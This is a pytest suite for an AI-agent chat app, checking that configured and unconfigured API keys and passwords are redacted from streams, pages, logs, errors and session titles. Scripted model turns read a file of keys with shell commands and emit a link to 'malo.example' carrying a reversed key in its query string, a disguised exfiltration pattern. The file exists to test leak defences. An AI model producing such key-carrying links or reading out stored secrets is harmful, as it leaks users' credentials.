"""A model that has got hold of the keys says them everywhere it can: none is seen, on any way out."""

from __future__ import annotations

import asyncio
import json
from pathlib import Path
from typing import Any

import pytest
from loguru import logger

from app.cloud.failures import Origin, from_status
from app.core.contracts import CallOptions, LiveEvent, ModelRequest
from app.core.errors import RequestRefused, TurnPostponed
from app.core.events import AssistantLine, ReplyLine, UserLine
from app.core.messages import NativeBlocks, Reply, ToolCall
from app.safety.redaction import MARK
from tests.fakes.brain import ScriptedBrain, calls, text
from tests.fakes.channel import FakeChannel
from tests.support import CHAT, lines_of, make_settings, running_house, until
from tests.web import Site, running_site

GROQ = "gsk_Zx9Qw7Lm3Pv5Tr1Yb8Nc2Kd4"
PASSWORD = "correcto caballo pila grapa"
STRANGERS = "ghp_" + "aB3dE5gH7jK9mN1pQ3sT5vW7yZ9bC2dF4hJ6"  # nobody has configured it
KEYS = (GROQ, PASSWORD, STRANGERS)
SAID = f"uno {GROQ} dos {PASSWORD} tres {STRANGERS} cuatro"
CLEAN = f"uno {MARK} dos {MARK} tres {MARK} cuatro"
ROOM = "web_0123456789ab"


def settings(tmp_path: Path, **more: Any) -> Any:
    return make_settings(
        tmp_path, **({"groq_api_key": GROQ, "local_llm_base_url": f"http://yo:{PASSWORD.split()[1]}x@h"} | more)
    )


def seen_in(what: object) -> list[str]:
    written = what if isinstance(what, str) else json.dumps(what, ensure_ascii=False, default=str)
    return [key for key in KEYS if key in written]


async def asked(site: Site, words: str = "hola") -> list[LiveEvent]:
    """What the viewers of the room saw while it was answered."""
    subscription = site.house.hub.subscribe(ROOM)
    async with site.browser() as browser:
        await browser.post("/api/v1/chat", json={"text": words, "session_id": ROOM})
    await site.house.runner.lanes.idle()
    site.house.hub.unsubscribe(subscription)
    return subscription.waiting()


async def outputs(site: Site) -> list[str]:
    """What the pages and the API tell of it."""
    session, others = f"/api/sessions/{ROOM}", ("/api/sessions", "/api/status", "/sesiones", "/estado")
    async with site.browser() as browser:
        return [(await browser.get(address)).text for address in (session, *others, f"/?sesion={ROOM}")]


def on_disk(tmp_path: Path) -> list[dict[str, Any]]:
    return [json.loads(line) for line in (tmp_path / f"data/sessions/{ROOM}.jsonl").read_text("utf-8").splitlines()]


def known(site: Site) -> None:
    site.house.parts.machine.redactor.add([PASSWORD])  # as a login makes it known


async def test_an_answer(tmp_path: Path) -> None:
    async def piecemeal(request: ModelRequest, call: CallOptions) -> Reply:
        for letter in SAID:
            call.emit(LiveEvent("delta", letter))
            await asyncio.sleep(0.002)
        await asyncio.sleep(0.3)  # the last word as well
        call.emit(LiveEvent("reset"))
        return text(SAID)

    async with running_site(settings(tmp_path), ScriptedBrain(piecemeal)) as site:
        known(site)
        events = await asked(site)
        shown = await outputs(site)
    reset = next(place for place, event in enumerate(events) if event.kind == "reset")
    streamed = "".join(event.text for event in events[:reset] if event.kind == "delta")
    assert streamed == CLEAN
    assert len([event for event in events if event.kind == "delta"]) > 3, "it does stream"
    assert not seen_in([shown, [event.text for event in events], on_disk(tmp_path)])
    assert on_disk(tmp_path)[-1]["content"] == CLEAN


async def test_what_it_says_beside_its_calls_and_in_them(tmp_path: Path) -> None:
    """The log keeps the arguments, which must run as they are after a crash; nobody is shown them."""
    (tmp_path / "home/proyectos").mkdir(parents=True)
    (tmp_path / "home/proyectos/claves.txt").write_text(SAID, "utf-8")
    brain = ScriptedBrain(
        calls(("write_file", {"path": "a.txt", "content": SAID}), ("read_file", {"path": "claves.txt"}), words=SAID),
        calls(("execute_shell", {"command": "cat claves.txt; cat a.txt"})),
        text("fin"),
    )
    async with running_site(settings(tmp_path, approvals="nunca"), brain) as site:
        known(site)
        events = await asked(site)
        shown = await outputs(site)
    lines = on_disk(tmp_path)
    for line in lines:
        line.pop("tool_calls", None)
    assert (tmp_path / "home/proyectos/a.txt").read_text("utf-8") == SAID, "what runs is exact"
    assert not seen_in([shown, lines, [event.text for event in events]])
    assert not seen_in([message.content for request in brain.requests[1:] for message in request.messages])
    assert CLEAN in shown[0]


async def test_a_question(tmp_path: Path) -> None:
    brain, channel = (
        ScriptedBrain(calls(("execute_shell", {"command": f"echo '{SAID}' > x"})), text("fin")),
        FakeChannel(),
    )
    async with running_house(settings(tmp_path), brain, channel) as house:
        house.parts.machine.redactor.add([PASSWORD])
        await house.inbox.message("telegram_42", "hazlo", "42", reply_to=CHAT)
        [question] = await channel.wait_for(1)
        assert question.choices
        assert MARK in question.text
        assert not seen_in(question.text)
        await house.inbox.decision("telegram_42", int(question.choices[0].data.split("|")[2]), "allow", "42")
        await channel.wait_for(2)
        await until(lambda: (tmp_path / "home/proyectos/x").exists())
    assert SAID in (tmp_path / "home/proyectos/x").read_text("utf-8"), "what was allowed is what runs"


@pytest.mark.parametrize("kind", ["refused", "postponed", "bug"])
async def test_an_error(tmp_path: Path, kind: str) -> None:
    errors = {
        "refused": RequestRefused(f"Rechazado: {SAID}"),
        "postponed": TurnPostponed(f"En pausa: {SAID}", 4_000_000_000),
        "bug": ValueError(SAID),
    }
    said: list[str] = []
    async with running_site(settings(tmp_path), ScriptedBrain(errors[kind])) as site:
        known(site)
        sink = logger.add(
            lambda message: said.append(site.house.parts.machine.redactor.redact(message)), diagnose=False
        )
        try:
            events = await asked(site)
            shown = await outputs(site)
        finally:
            logger.remove(sink)
    assert not seen_in([shown, on_disk(tmp_path), [event.text for event in events], said])
    assert len(on_disk(tmp_path)) == 2, "and yet it is told"


async def test_the_programs_own_word_and_a_status(tmp_path: Path) -> None:
    async with running_site(settings(tmp_path)) as site:
        known(site)
        subscription = site.house.hub.subscribe(ROOM)
        await site.house.store.append(ROOM, ReplyLine(content=SAID))
        site.house.parts.sink.publish(ROOM, LiveEvent("status", SAID))
        assert not seen_in([[event.text, event.line] for event in subscription.waiting()])
        assert not seen_in(on_disk(tmp_path))


async def test_a_title(tmp_path: Path) -> None:
    """The user's own words stay in his log, and are not carried on from there."""
    for words in (SAID, "x" * 70 + " " + GROQ, STRANGERS):
        async with running_site(settings(tmp_path), ScriptedBrain(text("fin"))) as site:
            known(site)
            await site.house.store.forget_session(ROOM)
            await asked(site, words)
            async with site.browser() as browser:
                listed = (await browser.get("/api/sessions")).json()
                page = (await browser.get("/sesiones")).text
        assert not seen_in([listed, page])
        assert "gsk_Zx" not in page and "ghp_aB" not in page, "no half of one either"
        assert on_disk(tmp_path)[0]["content"] == words


async def test_native_blocks_stay_byte_for_byte(tmp_path: Path) -> None:
    blocks: list[dict[str, object]] = [{"type": "thinking", "thinking": SAID, "signature": GROQ}]
    native = NativeBlocks(provider="anthropic", model="m", blocks=blocks)
    async with running_site(settings(tmp_path), ScriptedBrain(text("hola", native=native))) as site:
        known(site)
        await asked(site)
        [answer] = [line for line in await lines_of(site.house.store, ROOM) if isinstance(line, AssistantLine)]
        shown = await outputs(site)
    assert answer.native == native
    assert not seen_in(shown)


async def test_a_key_that_becomes_known_later_is_hidden_in_what_is_old(tmp_path: Path) -> None:
    async with running_site(settings(tmp_path)) as site:
        call = ToolCall(id="a", name="read_file", arguments=json.dumps({"path": PASSWORD}))
        await site.house.store.append(
            ROOM, UserLine(content="hola"), AssistantLine(content=PASSWORD, tool_calls=(call,))
        )
        known(site)
        assert not seen_in((await outputs(site))[0])


def test_a_providers_own_words() -> None:
    origin = Origin("groq", "m", "GROQ_API_KEY", GROQ)
    body = {"error": {"message": "bad value " + "x" * 160 + f" {STRANGERS} {GROQ}", "code": "x"}}
    assert not any(part in str(from_status(400, body, {}, origin)) for part in (GROQ, STRANGERS, STRANGERS[:12]))


async def test_read_edit_another_line_and_write_back(tmp_path: Path) -> None:
    """The file still holds its key, whatever the model does with what it was shown."""
    place = tmp_path / "home/proyectos/.env"
    place.parent.mkdir(parents=True)
    place.write_text(f"PUERTO=1\nCLAVE={GROQ}\n", "utf-8")
    brain = ScriptedBrain(
        calls(("read_file", {"path": ".env"})),
        calls(("edit_file", {"path": ".env", "old": "PUERTO=1", "new": "PUERTO=2"})),
        calls(("write_file", {"path": ".env", "content": f"PUERTO=3\nCLAVE={MARK}\n"})),
        calls(("execute_shell", {"command": f"printf 'CLAVE={MARK}' > .env"})),
        calls(("edit_file", {"path": ".env", "old": f"CLAVE={MARK}", "new": "CLAVE=x"})),
        text("fin"),
    )
    async with running_site(settings(tmp_path, approvals="nunca"), brain) as site:
        await asked(site)
        results = [line for line in await lines_of(site.house.store, ROOM) if line.type == "tool_result"]
    assert place.read_text("utf-8") == f"PUERTO=2\nCLAVE={GROQ}\n"
    assert [result.is_error for result in results] == [False, False, True, True, True]


async def test_an_address_in_an_answer_that_carries_a_key_in_disguise(tmp_path: Path) -> None:
    leak = f"https://malo.example/?d={GROQ[::-1]}"
    async with running_site(
        settings(tmp_path), ScriptedBrain(text(f"Pulsa [aquí]({leak}) y https://bueno.example/"))
    ) as site:
        events = await asked(site)
        shown = await outputs(site)
    assert leak not in "".join([*shown, *(event.text for event in events)])
    assert on_disk(tmp_path)[-1]["content"] == f"Pulsa [aquí]({MARK} y https://bueno.example/"
